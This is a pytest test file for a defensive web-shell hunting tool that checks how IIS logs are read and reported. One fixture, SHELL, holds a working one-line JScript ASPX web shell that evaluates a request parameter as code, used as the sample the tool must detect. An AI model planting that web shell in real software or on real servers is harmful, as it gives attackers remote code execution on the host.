from __future__ import annotations

import zipfile
from dataclasses import replace
from pathlib import Path

import pytest

from tests.builders.logs import row, text_log
from webshellhunt.errors import UsageError
from webshellhunt.model.limits import Job
from webshellhunt.model.log_options import LogOptions
from webshellhunt.model.progress import Progress, Stage
from webshellhunt.model.report import AssessmentState, InputState, Report
from webshellhunt.model.traffic import LogKind
from webshellhunt.model.verdict import Presence, SubjectKind
from webshellhunt.pipeline import hunt
from webshellhunt.sources.memory import MemorySource

SHELL = b'<\x25@ Page Language="Jscript"\x25><\x25eval(Request.Item["k"],"unsafe");\x25>'
LOG = "inetpub/logs/LogFiles/W3SVC1/u_ex210303.log"


def _rows(*paths: str, client: str = "203.0.113.7") -> bytes:
    rows = [row(f"2021-03-03 04:{n:02d}:00", path, method="POST", client=client) for n, path in enumerate(paths)]
    return text_log(LogKind.IIS, *rows)


class StopsAtLogs:
    """A progress that interrupts a hunt once logs are read."""

    def __call__(self, now: Progress) -> None:
        if now.stage is Stage.LOGS and now.done:
            raise KeyboardInterrupt


def _hunted(files: dict[str, bytes], **options: object) -> Report:
    return hunt(MemorySource(files), job=replace(Job(), logs=LogOptions(**options)))  # type: ignore[arg-type]


@pytest.fixture(scope="module")
def files() -> dict[str, bytes]:
    return {
        "inetpub/wwwroot/aspnet_client/x.aspx": SHELL,
        LOG: _rows("/aspnet_client/x.aspx", "/ecp/y.js", "/aspnet_client/x.aspx"),
    }


def test_the_clients_of_an_accused_page_are_followed(files: dict[str, bytes]) -> None:
    report = _hunted(files)
    assert report.traffic is not None
    (client,) = report.traffic.clients
    assert [moment.event.split()[1] for moment in client.moments] == ["/aspnet_client/x.aspx", "/ecp/y.js"]
    assert report.coverage.logs is InputState.HELD
    assert [moment.event.partition(":")[0] for moment in report.timeline] == ["first used", "last used"]


def test_without_logs_the_report_says_so(files: dict[str, bytes]) -> None:
    unread = _hunted(files, read=False)
    assert unread.traffic is None
    assert unread.coverage.logs is InputState.NOT_READ
    missing = _hunted({path: data for path, data in files.items() if path != LOG})
    assert missing.coverage.logs is InputState.MISSING
    assert all(verdict.use is None for verdict in missing.verdicts)


def test_logs_alone_examine_no_page(files: dict[str, bytes]) -> None:
    report = _hunted(files, alone=True)
    assert report.counts["files"] == 0
    assert report.assessment.state is AssessmentState.EXPLOITATION_TRACES_ONLY
    assert "logs alone; no page was examined" in report.assessment.sentence
    (page,) = (each.subject for each in report.verdicts if each.subject.path.endswith("x.aspx"))
    assert (page.kind, page.presence, page.sha256) == (SubjectKind.TRACE, Presence.PRESENT, None)
    empty = _hunted({"x.txt": b"x"}, alone=True)
    assert empty.assessment.state is AssessmentState.INCOMPLETE


def test_an_interrupt_while_logs_are_read_keeps_what_was_read(files: dict[str, bytes]) -> None:
    days = [f"2021-{month:02}-{day:02}" for month in range(4, 8) for day in range(1, 21)]
    logs = {
        f"inetpub/logs/LogFiles/W3SVC1/u_ex{day[2:].replace('-', '')}.log": files[LOG].replace(
            b"2021-03-03", day.encode()
        )
        for day in days
    }

    report = hunt(MemorySource({**files, **logs}), progress=StopsAtLogs())
    assert report.interrupted
    (gap,) = [gap for gap in report.gaps if gap.stage == "logs"]
    assert (gap.code, gap.reason, gap.matters) == ("interrupted", "64 of 81 logs were read completely", True)
    assert report.coverage.logs is InputState.PARTIAL
    (use,) = [verdict.use for verdict in report.verdicts if verdict.use is not None]
    assert use.requests == 2 * 64


@pytest.mark.parametrize(
    ("moment", "words"),
    [
        ("find_logs", "the search for logs was interrupted, and none was read"),
        ("iter_ideas", "0 of 1 log was read completely"),
        ("LogReview", "1 of 1 log was read completely; their results were not evaluated completely"),
        ("trails", "0 of 1 log was searched for all requests of the clients of accused pages"),
    ],
)
def test_an_interrupt_at_any_moment_is_told(
    files: dict[str, bytes], moment: str, words: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    def stop(*_: object, **__: object) -> None:
        raise KeyboardInterrupt

    if moment == "trails":
        monkeypatch.setattr("webshellhunt.logs.client_trails.TrailQuestion.tally", stop)
    else:
        monkeypatch.setattr(f"webshellhunt.traffic.{moment}", stop)
    report = hunt(MemorySource(files))
    assert report.interrupted
    assert [gap.reason for gap in report.gaps if gap.stage == "logs"] == [words]
    assert report.coverage.logs is InputState.PARTIAL


def test_a_second_interrupt_ends_it(files: dict[str, bytes], monkeypatch: pytest.MonkeyPatch) -> None:
    def stop(*_: object, **__: object) -> None:
        raise KeyboardInterrupt

    monkeypatch.setattr("webshellhunt.traffic.LogReview", stop)
    with pytest.raises(KeyboardInterrupt):
        hunt(MemorySource(files), progress=StopsAtLogs())


def test_logs_alone_have_no_gaps_about_pages(files: dict[str, bytes]) -> None:
    config = b"""<configuration><system.applicationHost><sites><site name="Default Web Site" id="1">
    <application path="/"><virtualDirectory path="/" physicalPath="C:\\gone" /></application></site></sites>
    </system.applicationHost></configuration>"""
    both = {**files, "Windows/System32/inetsrv/config/applicationHost.config": config}
    both = {f"C/{path}": data for path, data in both.items()}
    assert "directory-missing" in [gap.code for gap in _hunted(both).gaps]
    assert "directory-missing" not in [gap.code for gap in _hunted(both, alone=True).gaps]


def test_wrong_patterns_end_a_hunt_before_it_starts(tmp_path: Path) -> None:
    files: list[str] = []
    job = Job(logs=LogOptions(pattern_paths=(str(tmp_path / "none"),)))
    with pytest.raises(UsageError, match="there is no such file or folder"):
        hunt(MemorySource({"a.aspx": b"<p>"}), job=job, progress=lambda now: files.append(now.path))
    assert not files


def test_logs_that_are_kept_elsewhere_are_read(files: dict[str, bytes], tmp_path: Path) -> None:
    (tmp_path / "u_ex210304.log").write_bytes(_rows("/aspnet_client/x.aspx", client="198.51.100.9"))
    report = _hunted(files, paths=(str(tmp_path),))
    (used,) = [verdict.use for verdict in report.verdicts if verdict.use is not None]
    assert used.clients == ("203.0.113.7", "198.51.100.9")


def test_a_place_of_logs_that_does_not_exist_is_a_gap(files: dict[str, bytes], tmp_path: Path) -> None:
    report = _hunted(files, paths=(str(tmp_path / "none"),))
    (gap,) = [gap for gap in report.gaps if gap.stage == "logs"]
    assert gap.matters
    assert report.coverage.logs is InputState.PARTIAL
    assert report.traffic is not None


def test_archives_at_the_place_of_logs_are_read_and_copies_count_once(files: dict[str, bytes], tmp_path: Path) -> None:
    for path, data in files.items():
        (tmp_path / path).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / path).write_bytes(data)
    folder = (tmp_path / LOG).parent
    with zipfile.ZipFile(folder / "old.zip", "w") as archive:
        archive.writestr("u_ex210303.log", files[LOG])
        archive.writestr("u_ex210202.log", _rows("/aspnet_client/x.aspx").replace(b"2021-03-03", b"2021-02-02"))
    (folder / "copy").mkdir()
    (folder / "copy" / "u_ex210303.log").write_bytes(files[LOG])
    report = hunt(tmp_path)
    (use,) = [verdict.use for verdict in report.verdicts if verdict.use is not None]
    assert (use.requests, str(use.first_utc)[:10]) == (3, "2021-02-02")
    told = [gap for gap in report.gaps if gap.code == "log-repeated"]
    assert len(told) == 2
    assert all(gap.reason.endswith(": its rows count once") for gap in told)


def test_an_archive_that_can_not_be_opened_leaves_use_unknown(files: dict[str, bytes]) -> None:
    report = _hunted({**files, "inetpub/logs/LogFiles/W3SVC1/old.zip": b"PK\x05\x06" + bytes(18)})
    (gap,) = [gap for gap in report.gaps if gap.stage == "logs"]
    assert (gap.code, gap.matters) == ("log-format-not-read", True)
    assert "an archive" in gap.reason
